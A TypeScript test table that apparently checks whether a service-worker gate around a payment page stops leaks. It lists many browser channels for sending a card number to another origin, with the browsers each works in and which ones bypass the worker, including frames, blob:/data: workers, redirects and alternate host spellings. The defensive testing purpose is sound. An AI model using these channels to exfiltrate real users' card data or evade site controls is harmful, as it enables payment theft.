/**
 * Every way that a page has to send something, as one table. In each, the card number is in the
 * address, a header or the body. Runs in browsers; the data is read in Node.
 */

/** Browsers, by their first letter; `races` where that differs from one time to the next. */
type In = 'races' | '' | 'C' | 'F' | 'W' | 'CF' | 'CW' | 'FW' | 'CFW'

/** Where a way sends to. */
export interface Target {
  readonly url: string
  /** The same as `ws:` or `wss:`. */
  readonly socket: string
  /** Of the page's own origin: a redirection to `url`. */
  readonly redirect: (status: number) => string
  readonly secret: string
}

export interface Way {
  readonly name: string
  /**
   * Where it sends at all, to an origin without a gate. In the others a browser does not have it,
   * or blocks it.
   */
  readonly sends: In
  /**
   * Where it may go around the worker: to a name that exists, the card number would leave in the
   * clear.
   */
  readonly around: In
  readonly run: (to: Target) => unknown
}

type Run = Way['run']
const way = (name: string, [sends, around]: readonly [In, In], run: Run): Way => ({ name, sends, around, run })

/**
 * Whether it gets to send at all differs from one time to the next; that nothing is readable does
 * not.
 */
const race = (name: string, run: Run): Way => ({ name, sends: 'races', around: 'races', run })

const ignore = (): void => undefined
const post = (secret: string, init: RequestInit = {}): RequestInit => ({ method: 'POST', body: secret, ...init })
const posting =
  (init: RequestInit = {}): Run =>
  ({ url, secret }) =>
    void fetch(url, post(secret, init)).catch(ignore)

/** An element of the page. */
function add<Name extends keyof HTMLElementTagNameMap>(
  name: Name,
  given: Readonly<Record<string, string>>,
  parent: Element = document.body,
): HTMLElementTagNameMap[Name] {
  const element = document.createElement(name)
  for (const [key, value] of Object.entries(given)) element.setAttribute(key, value)
  parent.append(element)
  return element
}

/** A frame with a page of this origin, which the worker controls. */
async function ownFrame(): Promise<Window & typeof globalThis> {
  const frame = document.createElement('iframe')
  const loaded = new Promise((resolve) => {
    frame.onload = resolve
  })
  frame.src = '/frame'
  document.body.append(frame)
  await loaded
  return frame.contentWindow as Window & typeof globalThis
}

const popups: Window[] = []
/** A window with a page of this origin. */
async function ownWindow(address = '/frame'): Promise<Window & typeof globalThis> {
  const opened = open(address, '_blank') as (Window & typeof globalThis) | null
  if (opened === null) throw new Error('no window')
  popups.push(opened)
  await new Promise<void>((resolve) => {
    opened.addEventListener('load', () => {
      resolve()
    })
    if (address === 'about:blank') resolve()
  })
  return opened
}

/** Closes the windows of all ways. */
export function closeWindows(): void {
  for (const popup of popups) popup.close()
}

const code = ({ url, secret }: Target): string =>
  `fetch(${JSON.stringify(url)}, { method: 'POST', body: ${JSON.stringify(secret)} }).catch(() => 0)`
const syncCode = ({ url, secret }: Target): string =>
  `const x = new XMLHttpRequest(); x.open('POST', ${JSON.stringify(url)}, false); try { x.send(${JSON.stringify(secret)}) } catch {}`
const scriptOf = (text: string): string => `<script>${text}</script>`
const refresh = ({ url }: Target): string => `<meta http-equiv="refresh" content="0;url=${url}">`
const blobOf = (text: string, type: string): string => URL.createObjectURL(new Blob([text], { type }))

interface FormGiven {
  readonly method?: string
  readonly enctype?: string
  readonly target?: string
}
function submit({ url, secret }: Target, given: FormGiven, page: Document = document): void {
  const form = page.createElement('form')
  for (const [key, value] of Object.entries({ action: url, method: 'post', ...given })) form.setAttribute(key, value)
  const input = page.createElement('input')
  input.name = 'card'
  input.value = secret
  form.append(input)
  page.body.append(form)
  form.submit()
}
let frames = 0
const formInFrame =
  (given: FormGiven): Run =>
  (to) => {
    const name = `frame-${++frames}`
    add('iframe', { name })
    submit(to, { ...given, target: name })
  }

function xhr({ url, secret }: Target, isAsync: boolean, Xhr = XMLHttpRequest): void {
  const request = new Xhr()
  request.open('POST', url, isAsync)
  request.send(secret)
}

function inWorker(script: string, options: WorkerOptions, message?: unknown): void {
  const worker = new Worker(script, options)
  if (message !== undefined) worker.postMessage(message)
}
const ownWorker =
  (how: string): Run =>
  ({ url, secret }) => {
    inWorker('/worker.js', {}, { how, url, secret })
  }

const link =
  (given: Readonly<Record<string, string>>): Run =>
  ({ url }) =>
    add('link', { href: url, ...given }, document.head)
const style =
  (css: (url: string) => string): Run =>
  ({ url }) => {
    add('style', {}, document.head).textContent = css(url)
  }
const rules =
  (kind: 'prefetch' | 'prerender'): Run =>
  ({ url }) => {
    const script = add('script', { type: 'speculationrules' }, document.head)
    script.textContent = JSON.stringify({ [kind]: [{ source: 'list', urls: [url] }] })
    // A script that is parsed after its text: some browsers read it when it is added.
    const again = document.createElement('script')
    again.type = 'speculationrules'
    again.textContent = script.textContent
    document.head.append(again)
  }

/** The ways that have a name for themselves in Fetch. */
const fetching: readonly Way[] = [
  way('fetch', ['CFW', ''], posting()),
  way('fetch, address', ['CFW', ''], ({ url }) => void fetch(url).catch(ignore)),
  way(
    'fetch, header',
    ['CFW', ''],
    ({ url, secret }) => void fetch(url, { headers: { 'x-card': secret } }).catch(ignore),
  ),
  way('fetch, keepalive', ['CFW', 'F'], posting({ keepalive: true })),
  way('fetch, no-cors', ['CFW', ''], posting({ mode: 'no-cors' })),
  way('fetch, no-cors and keepalive', ['CFW', 'F'], posting({ mode: 'no-cors', keepalive: true })),
  way('fetch, credentials', ['CFW', ''], posting({ credentials: 'include' })),
  way('fetch, multipart', ['CFW', ''], ({ url, secret }) => {
    const form = new FormData()
    form.set('card', secret)
    void fetch(url, { method: 'POST', body: form }).catch(ignore)
  }),
  way('fetch, priority high, no referrer', ['CFW', ''], posting({ priority: 'high', referrerPolicy: 'no-referrer' })),
  way('fetch of a Request', ['CFW', ''], ({ url, secret }) => void fetch(new Request(url, post(secret))).catch(ignore)),
  way('XMLHttpRequest', ['CFW', ''], (to) => {
    xhr(to, true)
  }),
  way('XMLHttpRequest, synchronous', ['CFW', 'CW'], (to) => {
    xhr(to, false)
  }),
  way('sendBeacon, text', ['CFW', ''], ({ url, secret }) => navigator.sendBeacon(url, secret)),
  way('sendBeacon, blob', ['CFW', ''], ({ url, secret }) =>
    navigator.sendBeacon(url, new Blob([secret], { type: 'text/plain' })),
  ),
  way('fetchLater', ['C', 'C'], ({ url, secret }) => {
    const { fetchLater } = globalThis as unknown as { fetchLater: (url: string, init: object) => void }
    fetchLater(url, { ...post(secret), activateAfter: 0 })
  }),
  way('backgroundFetch', ['', ''], async ({ url, secret }) => {
    const { backgroundFetch } = (await navigator.serviceWorker.ready) as unknown as {
      backgroundFetch: { fetch: (id: string, requests: Request[]) => Promise<unknown> }
    }
    void backgroundFetch.fetch(secret, [new Request(url, post(secret))]).catch(ignore)
  }),
  way('EventSource', ['CFW', ''], ({ url }) => new EventSource(url)),
  way('WebSocket', ['CFW', 'CFW'], ({ socket }) => new WebSocket(socket)),
]

/** From a page of the same origin that is not this one. */
const fromElsewhere: readonly Way[] = [
  way(
    'fetch in a frame',
    ['CFW', ''],
    async ({ url, secret }) => void (await ownFrame()).fetch(url, post(secret)).catch(ignore),
  ),
  race('fetch in a frame that is removed', async ({ url, secret }) => {
    const own = await ownFrame()
    void own.fetch(url, post(secret)).catch(ignore)
    own.frameElement?.remove()
  }),
  race('keepalive fetch in a frame that is removed', async ({ url, secret }) => {
    const own = await ownFrame()
    void own.fetch(url, post(secret, { keepalive: true })).catch(ignore)
    own.frameElement?.remove()
  }),
  race('XMLHttpRequest in a frame that is removed', async (to) => {
    const own = await ownFrame()
    xhr(to, true, own.XMLHttpRequest)
    own.frameElement?.remove()
  }),
  race('sendBeacon in a frame that is removed', async ({ url, secret }) => {
    const own = await ownFrame()
    own.navigator.sendBeacon(url, secret)
    own.frameElement?.remove()
  }),
  way('fetch in about:blank', ['CFW', 'C'], ({ url, secret }) => {
    const blank = add('iframe', {}).contentWindow as Window & typeof globalThis
    void blank.fetch(url, post(secret)).catch(ignore)
  }),
  way('fetch in srcdoc', ['CFW', ''], (to) => add('iframe', { srcdoc: scriptOf(code(to)) })),
  way('fetch in a sandbox', ['CFW', 'CFW'], (to) =>
    add('iframe', { sandbox: 'allow-scripts', srcdoc: scriptOf(code(to)) }),
  ),
  way('fetch in a sandbox of this origin', ['CFW', 'F'], (to) =>
    add('iframe', { sandbox: 'allow-scripts allow-same-origin', srcdoc: scriptOf(code(to)) }),
  ),
  way('fetch in a sandboxed file', ['CFW', 'CFW'], (to) =>
    add('iframe', { sandbox: 'allow-scripts', src: `/run?${encodeURIComponent(scriptOf(code(to)))}` }),
  ),
  way('fetch in a blob: frame', ['CFW', 'C'], (to) => add('iframe', { src: blobOf(scriptOf(code(to)), 'text/html') })),
  way('fetch in a data: frame', ['CFW', 'CFW'], (to) =>
    add('iframe', { src: `data:text/html,${encodeURIComponent(scriptOf(code(to)))}` }),
  ),
  way('fetch in a javascript: frame', ['CFW', 'CW'], (to) =>
    add('iframe', { src: `javascript:${encodeURIComponent(code(to))}` }),
  ),
  way('synchronous XMLHttpRequest in srcdoc', ['CFW', 'CW'], (to) => add('iframe', { srcdoc: scriptOf(syncCode(to)) })),
  way('synchronous XMLHttpRequest in a sandbox', ['CFW', 'CFW'], (to) =>
    add('iframe', { sandbox: 'allow-scripts', srcdoc: scriptOf(syncCode(to)) }),
  ),
  way(
    'fetch in a window',
    ['CF', ''],
    async ({ url, secret }) => void (await ownWindow()).fetch(url, post(secret)).catch(ignore),
  ),
  way('fetch in a blank window', ['CF', 'CF'], async ({ url, secret }) => {
    void (await ownWindow('about:blank')).fetch(url, post(secret)).catch(ignore)
  }),
  way('fetch in a blob: window', ['CF', 'CF'], (to) => {
    const opened = open(blobOf(scriptOf(code(to)), 'text/html'))
    if (opened !== null) popups.push(opened)
  }),
  way('fetch in a worker', ['CFW', 'W'], ownWorker('fetch')),
  way('keepalive fetch in a worker', ['CFW', 'W'], ownWorker('keepalive')),
  way('synchronous XMLHttpRequest in a worker', ['CFW', 'W'], ownWorker('xhr')),
  way('importScripts in a worker', ['CFW', 'W'], ownWorker('importScripts')),
  way('import in a worker', ['CFW', 'W'], ownWorker('import')),
  way('WebSocket in a worker', ['CFW', 'CFW'], ({ socket, secret }) => {
    inWorker('/worker.js', {}, { how: 'socket', url: socket, secret })
  }),
  way('fetch in a blob: worker', ['CFW', ''], (to) => {
    inWorker(blobOf(code(to), 'text/javascript'), {})
  }),
  way('synchronous XMLHttpRequest in a blob: worker', ['CFW', ''], (to) => {
    inWorker(blobOf(syncCode(to), 'text/javascript'), {})
  }),
  way('fetch in a data: worker', ['CFW', 'CFW'], (to) => {
    inWorker(`data:text/javascript,${encodeURIComponent(code(to))}`, {})
  }),
  way('synchronous XMLHttpRequest in a data: worker', ['CFW', 'CFW'], (to) => {
    inWorker(`data:text/javascript,${encodeURIComponent(syncCode(to))}`, {})
  }),
  way('fetch in a module worker', ['CFW', ''], (to) => {
    inWorker(blobOf(code(to), 'text/javascript'), { type: 'module' })
  }),
  way('fetch in a SharedWorker', ['CFW', ''], ({ url, secret }) => {
    new SharedWorker('/shared.js').port.postMessage({ how: 'fetch', url, secret })
  }),
  way('fetch in another service worker', ['CFW', 'CFW'], async ({ url, secret }) => {
    const { active, installing } = await navigator.serviceWorker.register('/other.js', { scope: '/other/' })
    ;(active ?? installing)?.postMessage({ how: 'fetch', url, secret })
  }),
]

/** Navigations, which no worker of this page sees. */
const navigating: readonly Way[] = [
  way('form, urlencoded', ['CFW', 'CFW'], formInFrame({})),
  way('form, multipart', ['CFW', 'CFW'], formInFrame({ enctype: 'multipart/form-data' })),
  way('form, text/plain', ['CFW', 'CFW'], formInFrame({ enctype: 'text/plain' })),
  way('form, address', ['CFW', 'CFW'], formInFrame({ method: 'get' })),
  way('form to _blank', ['CF', 'CF'], (to) => {
    submit(to, { target: '_blank' })
  }),
  way('form to itself, in a frame', ['CFW', 'CFW'], async (to) => {
    submit(to, { target: '_self' }, (await ownFrame()).document)
  }),
  way('form to itself, in a window', ['CF', 'CF'], async (to) => {
    submit(to, { target: '_self' }, (await ownWindow()).document)
  }),
  way('form in a sandbox', ['CFW', 'CFW'], ({ url, secret }) =>
    add('iframe', {
      sandbox: 'allow-scripts allow-forms',
      srcdoc: `<form method="post" action="${url}"><input name="card" value="${secret}"></form>${scriptOf('document.forms[0].submit()')}`,
    }),
  ),
  way('iframe', ['CFW', 'CFW'], ({ url }) => add('iframe', { src: url })),
  way('object', ['CFW', 'CFW'], ({ url }) => add('object', { data: url, type: 'text/html' })),
  way('embed', ['CFW', 'CFW'], ({ url }) => add('embed', { src: url, type: 'text/html' })),
  way('location of a frame', ['CFW', 'CFW'], async ({ url }) => {
    ;(await ownFrame()).location.href = url
  }),
  way('location of a window', ['CF', 'CF'], async ({ url }) => {
    ;(await ownWindow()).location.href = url
  }),
  way('window.open', ['CF', 'CF'], ({ url }) => {
    const opened = open(url)
    if (opened !== null) popups.push(opened)
  }),
  way('meta refresh, in a frame', ['CFW', 'CFW'], (to) => add('iframe', { srcdoc: refresh(to) })),
  way('meta refresh, in a window', ['CF', 'CF'], (to) => {
    const opened = open(`/run?${encodeURIComponent(refresh(to))}`)
    if (opened !== null) popups.push(opened)
  }),
  way('a link, in a frame', ['CFW', 'CFW'], async ({ url }) => {
    const { document: page } = await ownFrame()
    const anchor = page.createElement('a')
    anchor.href = url
    page.body.append(anchor)
    anchor.click()
  }),
  way('a download, in a frame', ['CFW', 'CFW'], async ({ url }) => {
    const { document: page } = await ownFrame()
    const anchor = page.createElement('a')
    anchor.href = url
    anchor.download = 'card'
    page.body.append(anchor)
    anchor.click()
  }),
  way('ping of a link', ['CW', ''], ({ url }) => {
    add('a', { href: '#ping', ping: url }).click()
  }),
  way('prefetch rule', ['', ''], rules('prefetch')),
  way('prerender rule', ['', ''], rules('prerender')),
]

/** What a page is made of. */
const parts: readonly Way[] = [
  way('img', ['CFW', ''], ({ url }) => add('img', { src: url })),
  way('img, with CORS', ['CFW', ''], ({ url }) => add('img', { src: url, crossorigin: 'anonymous' })),
  way('picture', ['CFW', ''], ({ url }) => {
    const picture = add('picture', {})
    add('source', { srcset: url }, picture)
    add('img', {}, picture)
  }),
  way('input of type image', ['CFW', ''], ({ url }) => add('input', { type: 'image', src: url })),
  way('image in SVG', ['CFW', ''], ({ url }) => {
    add('div', {}).innerHTML = `<svg width="9" height="9"><image href="${url}" width="9" height="9"/></svg>`
  }),
  way('audio', ['CFW', 'F'], ({ url }) => add('audio', { src: url, preload: 'auto', muted: '', autoplay: '' })),
  way('video', ['CFW', 'F'], ({ url }) => add('video', { src: url, preload: 'auto', muted: '', autoplay: '' })),
  way('poster of a video', ['CFW', ''], ({ url }) => add('video', { poster: url })),
  way('track of a video', ['CFW', ''], ({ url }) => {
    const video = add('video', { crossorigin: 'anonymous', src: 'data:video/mp4,' })
    add('track', { src: url, kind: 'captions', default: '' }, video).track.mode = 'showing'
  }),
  way('script', ['CFW', ''], ({ url }) => {
    const script = document.createElement('script')
    script.src = url
    document.head.append(script)
  }),
  way('script of type module', ['CFW', ''], ({ url }) => {
    const script = document.createElement('script')
    script.type = 'module'
    script.src = url
    document.head.append(script)
  }),
  way('import()', ['CFW', ''], ({ url }) => void import(/* @vite-ignore */ url).catch(ignore)),
  way('link: stylesheet', ['CFW', ''], link({ rel: 'stylesheet' })),
  way('link: icon', ['CF', 'C'], link({ rel: 'icon', type: 'image/png' })),
  way('link: preload', ['CFW', ''], link({ rel: 'preload', as: 'fetch', crossorigin: 'anonymous' })),
  way('link: preload of a script', ['CFW', ''], link({ rel: 'preload', as: 'script' })),
  way('link: modulepreload', ['CFW', ''], link({ rel: 'modulepreload' })),
  way('link: prefetch', ['CF', ''], link({ rel: 'prefetch' })),
  way('link: manifest', ['', ''], link({ rel: 'manifest' })),
  way('url() in a style', ['CFW', ''], ({ url }) =>
    add('div', { style: `background-image: url("${url}"); width: 9px; height: 9px` }),
  ),
  way(
    '@import in a style',
    ['CFW', ''],
    style((url) => `@import url("${url}");`),
  ),
  way('font in a style', ['CFW', ''], ({ url }) => void new FontFace('card', `url("${url}")`).load().catch(ignore)),
  way('mask in a style', ['CFW', ''], ({ url }) =>
    add('div', { style: `mask-image: url("${url}"); width: 9px; height: 9px; background: red` }),
  ),
  way('worklet', ['CFW', ''], ({ url }) => void new AudioContext().audioWorklet.addModule(url).catch(ignore)),
]

/** From the page's own origin to elsewhere: no worker sees where it goes on to. */
const redirected = (status: 302 | 307 | 308): readonly Way[] => [
  way(
    `${status} of a fetch`,
    ['CFW', 'CFW'],
    ({ redirect, secret }) => void fetch(redirect(status), post(secret)).catch(ignore),
  ),
]
const redirecting: readonly Way[] = [
  ...redirected(302),
  ...redirected(307),
  ...redirected(308),
  way(
    '307 of a keepalive fetch',
    ['CFW', 'CFW'],
    ({ redirect, secret }) => void fetch(redirect(307), post(secret, { keepalive: true })).catch(ignore),
  ),
  way('307 of an XMLHttpRequest', ['CFW', 'CFW'], (to) => {
    xhr({ ...to, url: to.redirect(307) }, true)
  }),
  way('307 of a synchronous XMLHttpRequest', ['CFW', 'CFW'], (to) => {
    xhr({ ...to, url: to.redirect(307) }, false)
  }),
  way('307 of a beacon', ['CFW', 'CFW'], ({ redirect, secret }) => navigator.sendBeacon(redirect(307), secret)),
  way('307 of a form', ['CFW', 'CFW'], (to) => {
    formInFrame({})({ ...to, url: to.redirect(307) })
  }),
  way('302 of an img', ['CFW', 'CFW'], ({ redirect }) => add('img', { src: redirect(302) })),
  way('302 of an iframe', ['CFW', 'CFW'], ({ redirect }) => add('iframe', { src: redirect(302) })),
  way('302 of a script', ['CFW', 'CFW'], ({ redirect }) => {
    const script = document.createElement('script')
    script.src = redirect(302)
    document.head.append(script)
  }),
  way('302 of an EventSource', ['CFW', 'CFW'], ({ redirect }) => new EventSource(redirect(302))),
]

// Parts come before what opens windows: a page behind a window is not painted, and what it is not
// painted with is not loaded.
export const ways: readonly Way[] = [...fetching, ...parts, ...fromElsewhere, ...navigating, ...redirecting]

/**
 * Other spellings of the gate's name, and of the enclave's own: for each, what a page may send
 * with.
 */
export interface Spelling {
  readonly name: string
  readonly of: (url: URL) => string
}
export const spellings: readonly Spelling[] = [
  { name: 'a trailing dot', of: (url) => url.href.replace(url.hostname, `${url.hostname}.`) },
  { name: 'capitals', of: (url) => url.href.replace(url.hostname, url.hostname.toUpperCase()) },
  { name: 'a user', of: (url) => url.href.replace('//', '//user:word@') },
  { name: 'another port', of: (url) => url.href.replace(url.host, `${url.hostname}:8443`) },
  { name: 'a subdomain', of: (url) => url.href.replace('//', '//www.') },
  { name: 'percent signs', of: (url) => url.href.replace(url.hostname, url.hostname.replace('p', '%70')) },
]
export const senders: readonly (readonly [name: string, run: Run])[] = [
  ['fetch', posting()],
  ['keepalive fetch', posting({ keepalive: true })],
  [
    'XMLHttpRequest',
    (to) => {
      xhr(to, true)
    },
  ],
  [
    'synchronous XMLHttpRequest',
    (to) => {
      xhr(to, false)
    },
  ],
  ['form', formInFrame({})],
  ['iframe', ({ url }) => add('iframe', { src: url })],
]
